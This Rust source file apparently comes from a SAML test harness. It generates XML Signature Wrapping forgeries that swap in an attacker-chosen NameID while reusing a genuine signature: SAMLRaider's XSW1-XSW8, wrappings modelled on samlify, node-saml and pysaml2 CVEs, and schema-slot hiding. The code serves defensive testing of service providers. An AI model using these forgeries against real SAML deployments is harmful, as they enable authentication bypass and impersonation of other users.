//! Signature wrapping: SAMLRaider's XSW1-XSW8, a reference into `ds:Object`, a second root, an
//! extra NameID, and the wrapping shapes of later advisories (a signature relocated to the
//! root, a foreign-namespace ID, an assertion nested in a forgery, the original signature kept
//! in a forgery). Nothing here re-signs: the original signature is reused verbatim.

use roxmltree::{Document, Node};

use super::{
    Edit, content_end, copy, forged_identity, id_edit, identity_edits, signature_of,
    signed_assertion, signed_assertion_and_signature, signed_name, start_tag_insert,
    without_signature,
};
use crate::plan::{OriginalPlacement, WrapId, WrapPosition, WrapSlot};
use crate::response::PipelineError;
use crate::xml::{NS_DS, NS_SAML, NS_SAMLP, escape_attr, escape_text, new_id};

/// The ID SAMLRaider gives an evil Response, followed by a random part: fresh in every
/// response, so that an SP's replay cache never refuses one wrapping as a replay of another
/// (which would hide the second forgery behind the first).
fn evil_response_id() -> String {
    format!("_evil_response_ID{}", new_id())
}

/// The ID SAMLRaider gives an evil Assertion, followed by a random part (see
/// [`evil_response_id`]).
fn evil_assertion_id() -> String {
    format!("_evil_assertion_ID{}", new_id())
}

fn plan_error(message: String) -> PipelineError {
    PipelineError::Plan(message)
}

/// Builds XSW`variant` (shared/reference/saml-rules-and-attacks.md §2.2).
pub(super) fn xsw(
    doc: &Document<'_>,
    xml: &str,
    variant: u8,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let original = signed_name(doc, "xsw")?;
    let root = doc.root_element();
    let evil_edits = |node: Node<'_, '_>| forged_identity(node, &original, name_id, "xsw");
    match variant {
        1 | 2 => {
            let signature = signature_of(root).ok_or_else(|| {
                plan_error(format!(
                    "tamper `xsw` {variant} needs a signed Response; use the layout `response` or `both`"
                ))
            })?;
            // The pristine clone loses its first signature (the Response's).
            let clone = copy(xml, root, vec![(signature.range(), String::new())]);
            let mut edits = evil_edits(root)?;
            edits.push(id_edit(root, &evil_response_id())?);
            let at = if variant == 1 {
                content_end(xml, signature)
            } else {
                signature.range().start
            };
            edits.push((at..at, clone));
            Ok(edits)
        }
        3..=8 => {
            let (assertion, signature) = signed_assertion_and_signature(doc, "xsw")?;
            let unsigned = || (signature.range(), String::new());
            let evil_copy = |new_id: bool| -> Result<String, PipelineError> {
                let mut edits = evil_edits(assertion)?;
                edits.push(unsigned());
                if new_id {
                    edits.push(id_edit(assertion, &evil_assertion_id())?);
                }
                Ok(copy(xml, assertion, edits))
            };
            let pristine = || without_signature(xml, assertion);
            let start = assertion.range().start;
            let mut edits = Vec::new();
            match variant {
                3 => edits.push((start..start, evil_copy(true)?)),
                4 => {
                    let evil = evil_copy(true)?;
                    let close = evil.rfind("</").unwrap_or(evil.len());
                    let nested = format!(
                        "{}{}{}",
                        &evil[..close],
                        &xml[assertion.range()],
                        &evil[close..]
                    );
                    edits.push((assertion.range(), String::new()));
                    let end = content_end(xml, root);
                    edits.push((end..end, nested));
                }
                5 | 6 => {
                    edits.extend(evil_edits(assertion)?);
                    edits.push(id_edit(assertion, &evil_assertion_id())?);
                    let at = if variant == 5 {
                        content_end(xml, root)
                    } else {
                        content_end(xml, signature)
                    };
                    edits.push((at..at, pristine()));
                }
                7 => edits.push((
                    start..start,
                    format!("<Extensions>{}</Extensions>", evil_copy(false)?),
                )),
                _ => {
                    edits.extend(evil_edits(assertion)?);
                    let at = content_end(xml, signature);
                    edits.push((at..at, format!("<Object>{}</Object>", pristine())));
                }
            }
            Ok(edits)
        }
        other => Err(plan_error(format!(
            "tamper `xsw`: variant {other} does not exist; SAMLRaider's variants are 1 to 8"
        ))),
    }
}

/// The signed assertion becomes a forgery with a new ID; its signature references a pristine
/// copy inside a `ds:Object` of that signature.
pub(super) fn object_reference(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let original = signed_name(doc, "object-reference")?;
    let (assertion, signature) = signed_assertion_and_signature(doc, "object-reference")?;
    let pristine = without_signature(xml, assertion);
    let mut edits = identity_edits(assertion, &original, name_id);
    edits.push(id_edit(assertion, &new_id())?);
    let at = content_end(xml, signature);
    edits.push((at..at, format!("<ds:Object>{pristine}</ds:Object>")));
    Ok(edits)
}

/// A second root after the signed response: empty, or carrying an unsigned forged copy of the
/// assertion.
pub(super) fn trailing_root(
    doc: &Document<'_>,
    xml: &str,
    name_id: Option<&str>,
) -> Result<String, PipelineError> {
    let root = doc.root_element();
    let id = new_id();
    let Some(name_id) = name_id else {
        return Ok(format!(
            "{xml}<samlp:Response xmlns:samlp=\"{NS_SAMLP}\" ID=\"{id}\" Version=\"2.0\"/>"
        ));
    };
    let assertion = signed_assertion(doc)?;
    let forged = copy(
        xml,
        assertion,
        unsigned_forgery(doc, assertion, name_id, &new_id(), "trailing-root")?,
    );
    let instant = root.attribute("IssueInstant").unwrap_or_default();
    Ok(format!(
        "{xml}<samlp:Response xmlns:samlp=\"{NS_SAMLP}\" xmlns:saml=\"{NS_SAML}\" ID=\"{id}\" \
         Version=\"2.0\" IssueInstant=\"{}\"><samlp:Status><samlp:StatusCode \
         Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{forged}</samlp:Response>",
        escape_attr(instant)
    ))
}

/// A Subject with a forged NameID in `samlp:Extensions`, before the signed assertion.
pub(super) fn extra_name_id(doc: &Document<'_>, name_id: &str) -> Result<Vec<Edit>, PipelineError> {
    let at = extensions_point(doc)?;
    Ok(vec![(
        at..at,
        format!(
            "<samlp:Extensions xmlns:samlp=\"{NS_SAMLP}\"><saml:Subject xmlns:saml=\"{NS_SAML}\"><saml:NameID \
             Format=\"urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress\">{}</saml:NameID>\
             </saml:Subject></samlp:Extensions>",
            escape_text(name_id)
        ),
    )])
}

/// Where `samlp:Extensions` goes in the Response: after its Issuer and Signature (SAML Core
/// §3.2.2 StatusResponseType order).
pub(super) fn extensions_point(doc: &Document<'_>) -> Result<usize, PipelineError> {
    let root = doc.root_element();
    root.children()
        .rfind(|n| n.has_tag_name((NS_SAML, "Issuer")) || n.has_tag_name((NS_DS, "Signature")))
        .map(|n| n.range().end)
        .ok_or_else(|| {
            plan_error("tamper: the Response has no Issuer to put Extensions after".into())
        })
}

/// The edits that turn the signed assertion into an unsigned forgery for `name_id` with the
/// ID `id` (its signature removed).
fn unsigned_forgery(
    doc: &Document<'_>,
    assertion: Node<'_, '_>,
    name_id: &str,
    id: &str,
    kind: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let original = signed_name(doc, kind)?;
    let mut edits = forged_identity(assertion, &original, name_id, kind)?;
    edits.push(id_edit(assertion, id)?);
    if let Some(signature) = signature_of(assertion) {
        edits.push((signature.range(), String::new()));
    }
    Ok(edits)
}

/// `inner` wrapped in a `samlp:Extensions` that declares its namespace.
fn in_extensions(inner: &str) -> String {
    format!("<samlp:Extensions xmlns:samlp=\"{NS_SAMLP}\">{inner}</samlp:Extensions>")
}

/// [`crate::plan::Tamper::RelocatedSignature`] (samlify CVE-2025-47949).
pub(super) fn relocated_signature(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    const KIND: &str = "relocated-signature";
    let root = doc.root_element();
    let assertion = signed_assertion(doc)?;
    let root_signature = signature_of(root);
    let mut edits = Vec::new();
    match (signature_of(assertion), root_signature) {
        // The assertion's signature goes to the root, the original assertion into Extensions,
        // a forgery where it was; a Response signature would no longer verify and goes.
        (Some(signature), _) => {
            let forged = copy(
                xml,
                assertion,
                unsigned_forgery(doc, assertion, name_id, &new_id(), KIND)?,
            );
            edits.push((assertion.range(), forged));
            let moved = format!(
                "{}{}",
                &xml[signature.range()],
                in_extensions(&without_signature(xml, assertion))
            );
            match root_signature {
                Some(old) => edits.push((old.range(), moved)),
                None => {
                    let at = extensions_point(doc)?;
                    edits.push((at..at, moved));
                }
            }
        }
        // The Response's signature stays where it is; the original Response goes into
        // Extensions after it, and the root around them becomes the forgery.
        (None, Some(signature)) => {
            let original = signed_name(doc, KIND)?;
            edits.extend(forged_identity(assertion, &original, name_id, KIND)?);
            edits.push(id_edit(assertion, &new_id())?);
            edits.push(id_edit(root, &new_id())?);
            let at = signature.range().end;
            edits.push((at..at, in_extensions(&without_signature(xml, root))));
        }
        (None, None) => {
            return Err(plan_error(format!(
                "tamper `{KIND}` needs a signature; use a signing layout"
            )));
        }
    }
    Ok(edits)
}

/// [`crate::plan::Tamper::ForeignId`] (a node-saml CVE-2025-54419 candidate).
pub(super) fn foreign_id(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    const KIND: &str = "foreign-id";
    let (assertion, _) = signed_assertion_and_signature(doc, KIND)?;
    let signed_id = assertion.attribute("ID").unwrap_or_default();
    let mut forgery = unsigned_forgery(doc, assertion, name_id, &new_id(), KIND)?;
    forgery.push(start_tag_insert(
        xml,
        assertion,
        format!(
            " xmlns:x=\"urn:harness:foreign\" x:ID=\"{}\"",
            escape_attr(signed_id)
        ),
    ));
    let at = assertion.range().start;
    Ok(vec![(at..at, copy(xml, assertion, forgery))])
}

/// [`crate::plan::Tamper::AssertionInForgedAssertion`] (pysaml2 CVE-2021-21238).
pub(super) fn assertion_in_forged_assertion(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<Vec<Edit>, PipelineError> {
    const KIND: &str = "assertion-in-forged-assertion";
    let (assertion, signature) = signed_assertion_and_signature(doc, KIND)?;
    let original = signed_name(doc, KIND)?;
    // pysaml2's test calls it `attack`; the random part keeps it fresh in every response.
    let outer_id = format!("attack{}", new_id());
    let mut edits = forged_identity(assertion, &original, name_id, KIND)?;
    edits.push(id_edit(assertion, &outer_id)?);
    // The outer assertion's own signature: the original's, pointed at the outer ID, so neither
    // its digest nor its value can verify.
    let uri = signature
        .descendants()
        .find(|n| n.has_tag_name((NS_DS, "Reference")))
        .and_then(|r| r.attribute_node("URI"))
        .ok_or_else(|| {
            plan_error(format!(
                "tamper `{KIND}`: the signature has no Reference URI"
            ))
        })?;
    edits.push((uri.range_value(), format!("#{}", escape_attr(&outer_id))));
    let first_child = crate::dsig::inner_range(xml, assertion).start;
    edits.push((first_child..first_child, xml[assertion.range()].to_owned()));
    Ok(vec![(assertion.range(), copy(xml, assertion, edits))])
}

/// [`crate::plan::Tamper::SignatureInForgedAssertion`] (pysaml2 CVE-2020-5390).
pub(super) fn signature_in_forged_assertion(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
    placement: OriginalPlacement,
) -> Result<Vec<Edit>, PipelineError> {
    const KIND: &str = "signature-in-forged-assertion";
    let (assertion, _) = signed_assertion_and_signature(doc, KIND)?;
    let original = signed_name(doc, KIND)?;
    let mut forgery = forged_identity(assertion, &original, name_id, KIND)?;
    forgery.push(id_edit(assertion, &new_id())?);
    let pristine = without_signature(xml, assertion);
    let mut edits = Vec::new();
    match placement {
        OriginalPlacement::Extensions => {
            let at = extensions_point(doc)?;
            edits.push((at..at, in_extensions(&pristine)));
        }
        OriginalPlacement::Wrapper => {
            let at = assertion.range().end;
            edits.push((
                at..at,
                format!(
                    "<harness:Wrapper xmlns:harness=\"urn:harness:wrapper\">{pristine}</harness:Wrapper>"
                ),
            ));
        }
        OriginalPlacement::Nested => {
            let at = content_end(xml, assertion);
            forgery.push((at..at, pristine));
        }
    }
    edits.push((assertion.range(), copy(xml, assertion, forgery)));
    Ok(edits)
}

// ---------------------------------------------------------------------------------------------
// Schema-aware wrapping (issue 18): the original hidden in a schema slot.

/// The slots the generator hides an original in: every element of the SAML, XML Signature and
/// XML Encryption schemas whose content admits a `saml:Assertion` or a `samlp:Response`
/// (`mock-idp/tests/schema_slots.rs` derives the set from `harness/schemas/` and compares).
pub const SCHEMA_SLOTS: &[WrapSlot] = WrapSlot::ALL;

/// Which element a response's signature protects, and so which one [`Tamper::Wrap`] hides.
///
/// [`Tamper::Wrap`]: crate::plan::Tamper::Wrap
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SignedElement {
    /// Only the Assertion is signed (layout `assertion`).
    Assertion,
    /// The Response is signed (layouts `response` and `both`).
    Response,
}

impl SignedElement {
    /// What a response signed in `layout` protects; `None` when nothing is signed.
    pub fn of(layout: crate::plan::SigningLayout) -> Option<SignedElement> {
        use crate::plan::SigningLayout;
        match layout {
            SigningLayout::Response | SigningLayout::Both => Some(SignedElement::Response),
            SigningLayout::Assertion => Some(SignedElement::Assertion),
            SigningLayout::None => None,
        }
    }
}

/// Whether `slot` x `position` x `id` can be built around `signed`: `Ok(schema_valid)`, or the
/// reason it cannot (an impossible or meaningless combination).
pub fn construction(
    slot: WrapSlot,
    position: WrapPosition,
    id: WrapId,
    signed: SignedElement,
) -> Result<bool, String> {
    let family = Family::of(slot);
    match (signed, position) {
        (
            SignedElement::Response,
            WrapPosition::Inside | WrapPosition::Before | WrapPosition::After,
        ) => {
            return Err(format!(
                "the Response is signed: any change beside it breaks that signature, so only `new-root` hides it (not `{}`)",
                position_name(position)
            ));
        }
        (_, WrapPosition::NewRoot) if !slot.admits_response() => {
            return Err(format!(
                "{} does not admit a samlp:Response, which `new-root` hides",
                slot.name()
            ));
        }
        (_, WrapPosition::Inside) if family == Family::Samlp => {
            return Err(format!(
                "{} has no place inside an assertion; use `before`, `after` or `new-root`",
                slot.name()
            ));
        }
        _ => {}
    }
    let at_home = match position {
        WrapPosition::Inside => true,
        WrapPosition::NewRoot => slot != WrapSlot::ArtifactResponse,
        WrapPosition::Before => {
            matches!(family, Family::Ds | Family::Xenc)
                || matches!(
                    slot,
                    WrapSlot::Extensions | WrapSlot::StatusDetail | WrapSlot::Response
                )
        }
        WrapPosition::After => family == Family::Xenc || slot == WrapSlot::Response,
    };
    // Two elements with one xs:ID, or an attribute the Assertion and Response types do not
    // declare (neither has an anyAttribute), is invalid whatever the slot.
    Ok(at_home && id == WrapId::New)
}

fn position_name(position: WrapPosition) -> &'static str {
    match position {
        WrapPosition::Inside => "inside",
        WrapPosition::Before => "before",
        WrapPosition::After => "after",
        WrapPosition::NewRoot => "new-root",
    }
}

/// The schema a slot comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Family {
    Saml,
    Samlp,
    Ds,
    Xenc,
}

impl Family {
    fn of(slot: WrapSlot) -> Family {
        match slot.namespace() {
            NS_SAML => Family::Saml,
            NS_SAMLP => Family::Samlp,
            NS_DS => Family::Ds,
            _ => Family::Xenc,
        }
    }
}

const SUCCESS: &str = "urn:oasis:names:tc:SAML:2.0:status:Success";

/// Builds [`crate::plan::Tamper::Wrap`].
pub(super) fn wrap(
    doc: &Document<'_>,
    xml: &str,
    slot: WrapSlot,
    position: WrapPosition,
    id: WrapId,
    name_id: &str,
) -> Result<String, PipelineError> {
    const KIND: &str = "wrap";
    let root = doc.root_element();
    let assertion = signed_assertion(doc)?;
    let signed = if signature_of(root).is_some() {
        SignedElement::Response
    } else if signature_of(assertion).is_some() {
        SignedElement::Assertion
    } else {
        return Err(plan_error(format!(
            "tamper `{KIND}` needs a signature; use a signing layout"
        )));
    };
    construction(slot, position, id, signed)
        .map_err(|reason| plan_error(format!("tamper `{KIND}` {}: {reason}", slot.name())))?;
    let original = signed_name(doc, KIND)?;
    let mut forged = forged_identity(assertion, &original, name_id, KIND)?;
    if position == WrapPosition::NewRoot {
        // The whole original Response, intact, goes into the slot of a forged Response.
        let hidden = &xml[root.range()];
        let (id_node, other) = match signed {
            SignedElement::Response => (root, assertion),
            SignedElement::Assertion => (assertion, root),
        };
        forged.extend(id_edits(xml, id_node, id)?);
        forged.push(id_edit(other, &new_id())?);
        let root_signature = signature_of(root);
        let assertion_signature = signature_of(assertion);
        if let Some(sig) = assertion_signature {
            forged.push((sig.range(), String::new()));
        }
        if Family::of(slot) == Family::Ds {
            // A copy of the outermost original signature holds the original.
            let sig = root_signature
                .or(assertion_signature)
                .ok_or_else(|| plan_error(format!("tamper `{KIND}`: no signature to copy")))?;
            let carrier = signature_carrier(xml, sig, slot, hidden)?;
            match root_signature {
                Some(rs) => forged.push((rs.range(), carrier)),
                None => {
                    let at = extensions_point(doc)?;
                    forged.push((at..at, carrier));
                }
            }
        } else {
            if let Some(rs) = root_signature {
                forged.push((rs.range(), String::new()));
            }
            forged.extend(slot_in_response(xml, root, assertion, slot, hidden)?);
        }
        let text = copy(xml, root, forged);
        return Ok(format!(
            "{}{text}{}",
            &xml[..root.range().start],
            &xml[root.range().end..]
        ));
    }
    // The signed assertion is hidden; the Response around it stays.
    let hidden = &xml[assertion.range()];
    let signature = signature_of(assertion)
        .ok_or_else(|| plan_error(format!("tamper `{KIND}` needs a signed Assertion")))?;
    forged.extend(id_edits(xml, assertion, id)?);
    let mut edits = Vec::new();
    if position == WrapPosition::Inside {
        if Family::of(slot) == Family::Ds {
            forged.push((
                signature.range(),
                signature_carrier(xml, signature, slot, hidden)?,
            ));
        } else {
            forged.push((signature.range(), String::new()));
            forged.extend(slot_in_assertion(xml, assertion, slot, hidden)?);
        }
        edits.push((assertion.range(), copy(xml, assertion, forged)));
        return Ok(super::splice(xml, edits));
    }
    forged.push((signature.range(), String::new()));
    let forgery = copy(xml, assertion, forged);
    let before = position == WrapPosition::Before;
    if slot == WrapSlot::Response {
        // The original stays a child of its Response; the forgery goes beside it.
        let both = if before {
            format!("{forgery}{hidden}")
        } else {
            format!("{hidden}{forgery}")
        };
        edits.push((assertion.range(), both));
        return Ok(super::splice(xml, edits));
    }
    let carrier = match Family::of(slot) {
        Family::Ds => signature_carrier(xml, signature, slot, hidden)?,
        Family::Xenc => encrypted_carrier(slot, hidden, EncryptedHost::Assertion),
        Family::Samlp => samlp_carrier(slot, hidden, root),
        Family::Saml => saml_carrier(slot, hidden),
    };
    // Where the Response's schema puts the slot, when it has a place there.
    let home = match (before, slot, Family::of(slot)) {
        (true, WrapSlot::Extensions, _) | (true, _, Family::Ds) => Some(extensions_point(doc)?),
        (true, WrapSlot::StatusDetail, _) => Some(status_end(xml, root)?),
        _ => None,
    };
    match home {
        Some(at) => {
            edits.push((at..at, carrier));
            edits.push((assertion.range(), forgery));
        }
        None if before => edits.push((assertion.range(), format!("{carrier}{forgery}"))),
        None => edits.push((assertion.range(), format!("{forgery}{carrier}"))),
    }
    Ok(super::splice(xml, edits))
}

/// The edits that give `node` its [`WrapId`] (it carries the original's ID as written).
fn id_edits(xml: &str, node: Node<'_, '_>, id: WrapId) -> Result<Vec<Edit>, PipelineError> {
    let original = escape_attr(node.attribute("ID").unwrap_or_default());
    let extra = match id {
        WrapId::Same => return Ok(Vec::new()),
        WrapId::New => None,
        WrapId::Foreign => Some(format!(
            " xmlns:x=\"urn:harness:foreign\" x:ID=\"{original}\""
        )),
        WrapId::CapitalId => Some(format!(" Id=\"{original}\"")),
        WrapId::LowerId => Some(format!(" id=\"{original}\"")),
    };
    let mut edits = vec![id_edit(node, &new_id())?];
    edits.extend(extra.map(|text| start_tag_insert(xml, node, text)));
    Ok(edits)
}

/// The edit that makes `text` the last child of `node`, written self-closed or not.
fn append_child(xml: &str, node: Node<'_, '_>, text: &str) -> Edit {
    let range = node.range();
    if xml[range.clone()].ends_with("/>") {
        let name = super::qualified_name(xml, node);
        return ((range.end - 2)..range.end, format!(">{text}</{name}>"));
    }
    let at = content_end(xml, node);
    (at..at, text.to_owned())
}

fn child<'a, 'input>(node: Node<'a, 'input>, ns: &str, name: &str) -> Option<Node<'a, 'input>> {
    node.children().find(|n| n.has_tag_name((ns, name)))
}

fn status_end(xml: &str, root: Node<'_, '_>) -> Result<usize, PipelineError> {
    child(root, NS_SAMLP, "Status")
        .map(|s| content_end(xml, s))
        .ok_or_else(|| plan_error("tamper `wrap`: the Response has no Status".into()))
}

/// A copy of `signature` that holds `hidden` in `slot` (an XML Signature element).
fn signature_carrier(
    xml: &str,
    signature: Node<'_, '_>,
    slot: WrapSlot,
    hidden: &str,
) -> Result<String, PipelineError> {
    let missing = |what: &str| {
        plan_error(format!(
            "tamper `wrap` {}: the signature has no {what}",
            slot.name()
        ))
    };
    let signed_info = child(signature, NS_DS, "SignedInfo").ok_or_else(|| missing("SignedInfo"))?;
    let key_info = child(signature, NS_DS, "KeyInfo").ok_or_else(|| missing("KeyInfo"))?;
    let in_key_info = |text: String| append_child(xml, key_info, &text);
    let edit = match slot {
        WrapSlot::CanonicalizationMethod | WrapSlot::SignatureMethod => {
            let name = if slot == WrapSlot::SignatureMethod {
                "SignatureMethod"
            } else {
                "CanonicalizationMethod"
            };
            append_child(
                xml,
                child(signed_info, NS_DS, name).ok_or_else(|| missing(name))?,
                hidden,
            )
        }
        WrapSlot::DigestMethod => append_child(
            xml,
            signed_info
                .descendants()
                .find(|n| n.has_tag_name((NS_DS, "DigestMethod")))
                .ok_or_else(|| missing("DigestMethod"))?,
            hidden,
        ),
        WrapSlot::KeyInfo => append_child(xml, key_info, hidden),
        WrapSlot::X509Data => append_child(
            xml,
            child(key_info, NS_DS, "X509Data").ok_or_else(|| missing("X509Data"))?,
            hidden,
        ),
        WrapSlot::KeyValue => in_key_info(format!("<ds:KeyValue>{hidden}</ds:KeyValue>")),
        WrapSlot::PgpData => in_key_info(format!(
            "<ds:PGPData><ds:PGPKeyID>AAAA</ds:PGPKeyID>{hidden}</ds:PGPData>"
        )),
        WrapSlot::SpkiData => in_key_info(format!(
            "<ds:SPKIData><ds:SPKISexp>AAAA</ds:SPKISexp>{hidden}</ds:SPKIData>"
        )),
        WrapSlot::Transform => in_key_info(format!(
            "<ds:RetrievalMethod URI=\"#harness-none\"><ds:Transforms><ds:Transform \
             Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\">{hidden}</ds:Transform>\
             </ds:Transforms></ds:RetrievalMethod>"
        )),
        WrapSlot::Object => {
            append_child(xml, signature, &format!("<ds:Object>{hidden}</ds:Object>"))
        }
        WrapSlot::SignatureProperty => append_child(
            xml,
            signature,
            &format!(
                "<ds:Object><ds:SignatureProperties><ds:SignatureProperty \
                 Target=\"#harness-signature\">{hidden}</ds:SignatureProperty>\
                 </ds:SignatureProperties></ds:Object>"
            ),
        ),
        other => {
            return Err(plan_error(format!(
                "tamper `wrap`: {} is not an XML Signature slot",
                other.name()
            )));
        }
    };
    Ok(copy(xml, signature, vec![edit]))
}

/// Where an XML Encryption carrier sits.
#[derive(Clone, Copy, PartialEq, Eq)]
enum EncryptedHost {
    /// A `saml:EncryptedAssertion` (a child of a Response).
    Assertion,
    /// A `saml:EncryptedAttribute` in an AttributeStatement (inside an assertion).
    Attribute,
}

/// An EncryptedAssertion or EncryptedAttribute whose `slot` holds `hidden`; the ciphertext is
/// a placeholder (nothing decrypts to anything).
fn encrypted_carrier(slot: WrapSlot, hidden: &str, host: EncryptedHost) -> String {
    const XENC: &str = crate::response::encrypt::NS_XENC;
    const CIPHER: &str =
        "<xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData>";
    let agreement = |inner: String| {
        format!(
            "<ds:KeyInfo><xenc:AgreementMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#dh\">{inner}</xenc:AgreementMethod></ds:KeyInfo>"
        )
    };
    let (method, key_info, properties, key) = match slot {
        WrapSlot::EncryptionMethod => (
            hidden.to_owned(),
            String::new(),
            String::new(),
            String::new(),
        ),
        WrapSlot::AgreementMethod => (
            String::new(),
            agreement(hidden.to_owned()),
            String::new(),
            String::new(),
        ),
        WrapSlot::OriginatorKeyInfo => (
            String::new(),
            agreement(format!(
                "<xenc:OriginatorKeyInfo>{hidden}</xenc:OriginatorKeyInfo>"
            )),
            String::new(),
            String::new(),
        ),
        WrapSlot::RecipientKeyInfo => (
            String::new(),
            agreement(format!(
                "<xenc:RecipientKeyInfo>{hidden}</xenc:RecipientKeyInfo>"
            )),
            String::new(),
            String::new(),
        ),
        WrapSlot::EncryptionProperty => (
            String::new(),
            String::new(),
            format!(
                "<xenc:EncryptionProperties><xenc:EncryptionProperty>{hidden}</xenc:EncryptionProperty></xenc:EncryptionProperties>"
            ),
            String::new(),
        ),
        _ => {
            let name = if slot == WrapSlot::KeyReference {
                "KeyReference"
            } else {
                "DataReference"
            };
            (
                String::new(),
                String::new(),
                String::new(),
                format!(
                    "<xenc:EncryptedKey><xenc:EncryptionMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p\"/>{CIPHER}<xenc:ReferenceList><xenc:{name} URI=\"#harness-data\">{hidden}</xenc:{name}></xenc:ReferenceList></xenc:EncryptedKey>"
                ),
            )
        }
    };
    let data = format!(
        "<xenc:EncryptedData Id=\"harness-data\" Type=\"http://www.w3.org/2001/04/xmlenc#Element\"><xenc:EncryptionMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#aes128-cbc\"{}{key_info}{CIPHER}{properties}</xenc:EncryptedData>{key}",
        if method.is_empty() {
            "/>".to_owned()
        } else {
            format!(">{method}</xenc:EncryptionMethod>")
        }
    );
    let namespaces = format!("xmlns:saml=\"{NS_SAML}\" xmlns:xenc=\"{XENC}\" xmlns:ds=\"{NS_DS}\"");
    match host {
        EncryptedHost::Assertion => {
            format!("<saml:EncryptedAssertion {namespaces}>{data}</saml:EncryptedAssertion>")
        }
        EncryptedHost::Attribute => format!(
            "<saml:AttributeStatement {namespaces}><saml:EncryptedAttribute>{data}</saml:EncryptedAttribute></saml:AttributeStatement>"
        ),
    }
}

/// The SAML assertion-schema slot around `hidden`, as written where it is not at home (a
/// sibling of the forgery).
fn saml_carrier(slot: WrapSlot, hidden: &str) -> String {
    let ns = format!("xmlns:saml=\"{NS_SAML}\"");
    match slot {
        WrapSlot::Evidence => format!(
            "<saml:AuthzDecisionStatement {ns} Resource=\"urn:harness:resource\" Decision=\"Permit\">\
             <saml:Action Namespace=\"urn:oasis:names:tc:SAML:1.0:action:rwedc\">Read</saml:Action>\
             <saml:Evidence>{hidden}</saml:Evidence></saml:AuthzDecisionStatement>"
        ),
        WrapSlot::AttributeValue => format!(
            "<saml:AttributeStatement {ns}><saml:Attribute Name=\"urn:harness:wrapped\">\
             <saml:AttributeValue>{hidden}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>"
        ),
        WrapSlot::SubjectConfirmationData => format!(
            "<saml:SubjectConfirmation {ns} Method=\"urn:oasis:names:tc:SAML:2.0:cm:bearer\">\
             <saml:SubjectConfirmationData>{hidden}</saml:SubjectConfirmationData></saml:SubjectConfirmation>"
        ),
        other => {
            let name = other.name();
            format!("<{name} {ns}>{hidden}</{name}>")
        }
    }
}

/// The protocol-schema slot around `hidden` (Extensions, StatusDetail, ArtifactResponse).
fn samlp_carrier(slot: WrapSlot, hidden: &str, root: Node<'_, '_>) -> String {
    let ns = format!("xmlns:samlp=\"{NS_SAMLP}\"");
    match slot {
        WrapSlot::ArtifactResponse => format!(
            "<samlp:ArtifactResponse {ns} ID=\"{}\" Version=\"2.0\" IssueInstant=\"{}\"><samlp:Status>\
             <samlp:StatusCode Value=\"{SUCCESS}\"/></samlp:Status>{hidden}</samlp:ArtifactResponse>",
            new_id(),
            escape_attr(root.attribute("IssueInstant").unwrap_or_default())
        ),
        other => {
            let name = other.name();
            format!("<{name} {ns}>{hidden}</{name}>")
        }
    }
}

/// The edits that put `slot`, holding `hidden`, where the assertion schema puts it inside
/// `assertion` (Advice, a statement, the Subject's confirmation data, the AuthnContext, an
/// EncryptedAttribute).
fn slot_in_assertion(
    xml: &str,
    assertion: Node<'_, '_>,
    slot: WrapSlot,
    hidden: &str,
) -> Result<Vec<Edit>, PipelineError> {
    let missing = |what: &str| {
        plan_error(format!(
            "tamper `wrap` {}: the assertion has no {what}",
            slot.name()
        ))
    };
    let edit = match slot {
        WrapSlot::Advice => {
            let at = assertion
                .children()
                .rfind(|n| {
                    [
                        (NS_SAML, "Issuer"),
                        (NS_DS, "Signature"),
                        (NS_SAML, "Subject"),
                        (NS_SAML, "Conditions"),
                    ]
                    .iter()
                    .any(|name| n.has_tag_name(*name))
                })
                .map(|n| n.range().end)
                .ok_or_else(|| missing("Issuer"))?;
            (at..at, saml_carrier(slot, hidden))
        }
        WrapSlot::SubjectConfirmationData => append_child(
            xml,
            assertion
                .descendants()
                .find(|n| n.has_tag_name((NS_SAML, "SubjectConfirmationData")))
                .ok_or_else(|| missing("SubjectConfirmationData"))?,
            hidden,
        ),
        WrapSlot::AuthnContextDecl => {
            let class = assertion
                .descendants()
                .find(|n| n.has_tag_name((NS_SAML, "AuthnContextClassRef")))
                .ok_or_else(|| missing("AuthnContextClassRef"))?;
            let at = class.range().end;
            (
                at..at,
                format!(
                    "<saml:AuthnContextDecl xmlns:saml=\"{NS_SAML}\">{hidden}</saml:AuthnContextDecl>"
                ),
            )
        }
        WrapSlot::Evidence | WrapSlot::AttributeValue => {
            let at = content_end(xml, assertion);
            (at..at, saml_carrier(slot, hidden))
        }
        other if Family::of(other) == Family::Xenc => {
            let at = content_end(xml, assertion);
            (
                at..at,
                encrypted_carrier(other, hidden, EncryptedHost::Attribute),
            )
        }
        other => {
            return Err(plan_error(format!(
                "tamper `wrap`: {} has no place inside an assertion",
                other.name()
            )));
        }
    };
    Ok(vec![edit])
}

/// The edits that put `slot`, holding `hidden` (the original Response), inside the forged
/// Response `root` or its `assertion`, where the schemas put it.
fn slot_in_response(
    xml: &str,
    root: Node<'_, '_>,
    assertion: Node<'_, '_>,
    slot: WrapSlot,
    hidden: &str,
) -> Result<Vec<Edit>, PipelineError> {
    Ok(match Family::of(slot) {
        Family::Saml => slot_in_assertion(xml, assertion, slot, hidden)?,
        Family::Xenc => {
            let at = assertion.range().end;
            vec![(
                at..at,
                encrypted_carrier(slot, hidden, EncryptedHost::Assertion),
            )]
        }
        _ if slot == WrapSlot::StatusDetail => {
            let at = status_end(xml, root)?;
            vec![(at..at, samlp_carrier(slot, hidden, root))]
